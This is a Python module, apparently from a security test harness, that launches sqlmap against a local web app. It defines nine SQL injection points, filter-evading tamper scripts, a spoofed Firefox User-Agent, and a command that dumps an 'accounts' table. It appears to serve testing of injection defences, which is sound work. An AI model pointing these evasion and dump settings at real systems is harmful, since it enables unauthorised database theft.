"""Where values are pasted into SQL, and how sqlmap is sent there."""

import shutil
from dataclasses import dataclass

import process

# Level, risk and techniques that suffice without a guard, and what is tried against one. A second statement that sleeps is a way in, but takes
# hours for a table: it is left to the first run through the guard, which stops at what it finds.
TECHNIQUE = ("--technique", "BEU")
PLAIN = ("--level", "2", "--risk", "1", *TECHNIQUE)
# Where the value stands within a statement that writes.
WRITING = ("--level", "3", "--risk", "1", *TECHNIQUE)
HARD = ("--level", "5", "--risk", "3")

# Tools that say who they are, are known by it: these do not.
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

# What every context is tried with, after a run without any: scripts that keep a statement valid for both databases.
TAMPERS = ("space2comment,between,randomcase", "charencode,randomcase")


@dataclass(frozen=True)
class Context:
    """One place that a value is pasted into."""

    name: str
    told: str
    target: str
    # What sqlmap is told of the request.
    arguments: tuple
    # One more script or two, of those that something between a client and this statement undoes.
    tamper: str
    # What suffices without a guard.
    plain: tuple = PLAIN

    @property
    def tampers(self):
        """The scripts of each run, the first of which has none."""
        return ("", *TAMPERS, self.tamper)


CONTEXTS = (
    Context("string", "string in `WHERE`", "/products?name=Lamp", ("-p", "name"), "multiplespaces,unionalltounion,lowercase"),
    Context("json", "JSON body, string in `WHERE`, decoded twice", "/log-in", ("--data", '{"login": "anna"}', "-H", "Content-Type: application/json", "-p", "login"), "charunicodeescape"),
    Context("number", "number in `WHERE`", "/products/of?category=1", ("-p", "category"), "space2randomblank,greatest,lowercase"),
    Context("like", "pattern of `LIKE`, decoded twice", "/search?q=lamp", ("-p", "q"), "chardoubleencode"),
    Context("order", "`ORDER BY`", "/products/sorted?by=price", ("-p", "by"), "charencode,space2morecomment"),
    Context("insert", "value of `INSERT`, form", "/reviews", ("--data", "words=good", "-p", "words"), "space2morecomment,dunion", WRITING),
    Context("header", "`User-Agent` in `INSERT`", "/welcome", ("--user-agent", "shop/1.0", "-p", "user-agent"), "versionedkeywords", WRITING),
    Context("cookie", "cookie, plain or base64", "/account", ("--cookie", "session=t-anna-5150", "-p", "session"), "base64encode"),
    Context("path", "segment of the path, number in `WHERE`", "/products/3*", (), "equaltolike,commentbeforeparentheses,multiplespaces"),
)
# With few minutes.
QUICK = ("string", "json")
DIALECTS = {"sqlite": "SQLite", "postgresql": "PostgreSQL"}


def narrowed(context):
    """Effort for all but the first run: where values are written, not spent on the way that takes hours."""
    return HARD + TECHNIQUE if context.plain is WRITING else HARD


def command(sqlmap, context, database, port, folder, effort, tamper=""):
    """A run of sqlmap that finds its way in by itself and takes the table of marks."""
    of = ("-D", "public") if database == "postgresql" else ()
    agent = () if "--user-agent" in context.arguments else ("--user-agent", BROWSER)
    return [*sqlmap, "-u", f"http://127.0.0.1:{port}{context.target}", *context.arguments, *effort, *(("--tamper", tamper) if tamper else ()),
            "--dbms", DIALECTS[database], *agent, *of, "-T", "accounts", "-C", "mark", "--dump", "--batch", "--flush-session",
            "--disable-coloring", "--threads", "4", "--time-sec", "2", "--timeout", "10", "--retries", "1", "--output-dir", folder / "out"]


def run(sqlmap, context, database, tap, folder, seconds, effort, tamper=""):
    """Lets sqlmap loose; answers what it says and what it got hold of, to which the tap adds."""
    folder.mkdir()
    log = folder / "sqlmap.log"
    home = {"HOME": str(folder), "XDG_DATA_HOME": str(folder), "PATH": "/usr/bin:/bin", "PYTHONDONTWRITEBYTECODE": "1", "LC_ALL": "C.UTF-8"}
    code = process.run(command(sqlmap, context, database, tap.port, folder, effort, tamper), seconds, log, folder=folder, environment=home)
    said = log.read_text(errors="replace")
    obtained = set()
    for file in folder.rglob("*"):
        if file.is_file():
            obtained.update(tap.mark.findall(file.read_bytes()))
    shutil.rmtree(folder / "out", ignore_errors=True)
    return {"found": "identified the following injection point" in said, "in_time": code != 124, "code": code, "marks": obtained}
